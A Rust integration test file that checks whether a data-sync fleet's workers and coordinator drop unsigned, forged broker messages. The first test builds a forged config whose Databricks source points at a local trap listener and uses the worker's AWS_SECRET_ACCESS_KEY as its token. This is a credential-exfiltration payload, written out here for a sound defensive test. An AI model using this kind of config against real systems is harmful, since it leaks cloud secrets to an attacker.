//! The broker is not a trust boundary (`shared/src/queue/signed.rs`): a task
//! or a result published by anyone without the fleet's key is dropped unread.
//! A forged task that would have made a worker send its
//! `AWS_SECRET_ACCESS_KEY` to a listener sends nothing. The same task signed
//! with the key does send it, which shows what the signature stops. A forged
//! result cannot fail a run.

use ebb_shared::protocol::{self, TaskKind, TaskMessage, PROTOCOL_VERSION};
use ebb_shared::queue::{OutgoingMessage, QueueName, RUN_ID_HEADER, TASK_ID_HEADER};
use ebb_tests::fleet::Fleet;
use ebb_tests::model::create_people;
use ebb_tests::services::fresh_postgres_database;
use ebb_tests::sink::{Behavior, Sink};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// A loopback listener that keeps the first bytes of every request it gets.
async fn trap() -> (std::net::SocketAddr, Arc<Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let caught: Arc<Mutex<Vec<String>>> = Arc::default();
    let keep = caught.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let keep = keep.clone();
            tokio::spawn(async move {
                let mut buffer = vec![0u8; 16 << 10];
                let read = stream.read(&mut buffer).await.unwrap_or(0);
                keep.lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&buffer[..read]).into_owned());
                let _ = stream
                    .write_all(b"HTTP/1.1 503 Service Unavailable\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
                    .await;
            });
        }
    });
    (address, caught)
}

/// Polls `check` every 100 ms until it holds, failing after `limit` with `what`.
async fn eventually(limit: Duration, what: &str, mut check: impl FnMut() -> bool) {
    let deadline = Instant::now() + limit;
    while !check() {
        assert!(Instant::now() < deadline, "{what} (waited {limit:?})");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forged_task_is_dropped_unread_and_expands_nothing() {
    let fleet = Fleet::start("destinations:\n  d: { type: jsonl, path: out.jsonl }\n", 1).await;
    let (trap, caught) = trap().await;
    // The attack: a Databricks source at the attacker's address whose token
    // is the worker's own S3 secret, which it would send as a bearer token.
    let dir = tempfile::tempdir().unwrap();
    let forged = format!(
        "sources:\n  lakehouse: {{ type: databricks, host: \"http://{trap}\", warehouse_id: w1, \
         token: \"${{AWS_SECRET_ACCESS_KEY}}\" }}\n\
         models:\n  loot: {{ source: lakehouse, query: \"SELECT 1 AS id\", primary_key: id }}\n\
         destinations:\n  d: {{ type: jsonl, path: out.jsonl }}\n\
         syncs:\n  loot: {{ model: loot, destination: d, mode: upsert }}\n"
    );
    let config = ebb_worker::config::from_yaml_str(std::path::Path::new("forged.yaml"), &forged, dir.path())
        .unwrap_or_else(|errors| panic!("{errors}"));
    let task = |run: &str| {
        let task = TaskMessage {
            version: PROTOCOL_VERSION,
            task_id: format!("{run}/extract"),
            run_id: run.to_string(),
            sync: config.sync_spec("loot").unwrap(),
            kind: TaskKind::Extract,
            run_started_at_ms: 0,
        };
        let mut message = OutgoingMessage::new(protocol::encode(&task));
        message.headers.insert(RUN_ID_HEADER.into(), task.run_id.clone());
        message.headers.insert(TASK_ID_HEADER.into(), task.task_id.clone());
        message
    };

    fleet
        .broker()
        .await
        .publish(QueueName::Tasks, task("forged"))
        .await
        .unwrap();
    let worker_log = fleet.workers[0].log.clone();
    eventually(
        Duration::from_secs(30),
        "the worker never dropped the forged task",
        || {
            std::fs::read_to_string(&worker_log)
                .unwrap_or_default()
                .contains("without a valid fleet signature")
        },
    )
    .await;
    assert!(
        caught.lock().unwrap().is_empty(),
        "the forged task reached out: {:?}",
        caught.lock().unwrap()
    );
    assert!(!fleet.logs().contains(fleet.s3.secret_key()), "no log holds the secret");

    // Signed with the fleet's key, the same task is the fleet's own: it runs,
    // and the listener sees what the forged one would have sent.
    fleet
        .queue()
        .await
        .publish(QueueName::Tasks, task("signed"))
        .await
        .unwrap();
    eventually(
        Duration::from_secs(60),
        "the signed task never called the source",
        || !caught.lock().unwrap().is_empty(),
    )
    .await;
    let request = caught.lock().unwrap()[0].clone();
    assert!(
        request.contains(fleet.s3.secret_key()),
        "the control leaks as the attack would: {request}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forged_result_cannot_fail_a_run() {
    let database = fresh_postgres_database("forged_result").await;
    let pool = sqlx::PgPool::connect(&database.url).await.unwrap();
    create_people(&pool, 1_000).await;
    let sink = Sink::start().await;
    sink.set_behavior(Behavior {
        latency: Duration::from_millis(100),
        ..Behavior::default()
    });
    let config = format!(
        "sources:\n  warehouse: {{ type: postgres, url: \"{}\" }}\n\
         models:\n  people: {{ source: warehouse, query: \"SELECT id, email FROM people\", primary_key: id }}\n\
         destinations:\n  api: {{ type: http, url: \"{}\", batch_size: 20, max_concurrency: 1 }}\n\
         syncs:\n  people-api: {{ model: people, destination: api, mode: mirror, shards: 2 }}\n",
        database.url,
        sink.url()
    );
    let fleet = Fleet::start(&config, 1).await;
    let run_id = fleet.trigger("people-api").await;
    let deadline = Instant::now() + Duration::from_secs(60);
    while fleet.run(&run_id).await["status"] != "processing" {
        assert!(Instant::now() < deadline, "the run never delivered:\n{}", fleet.logs());
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    // Unsigned, a result nobody can read names the run: signed, it would be
    // dead-lettered and fail the run (faults.rs shows that).
    let mut forged = OutgoingMessage::new(b"\xc1 forged".to_vec());
    forged.headers.insert(RUN_ID_HEADER.into(), run_id.clone());
    forged
        .headers
        .insert(TASK_ID_HEADER.into(), format!("{run_id}/shard-0"));
    fleet.broker().await.publish(QueueName::Results, forged).await.unwrap();

    let run = fleet.wait_run(&run_id, Duration::from_secs(120)).await;
    assert_eq!(run["status"], "success", "{run}");
    let log = std::fs::read_to_string(&fleet.coordinator.log).unwrap();
    assert!(
        log.contains("without a valid fleet signature"),
        "the coordinator dropped it:\n{log}"
    );
    pool.close().await;
}
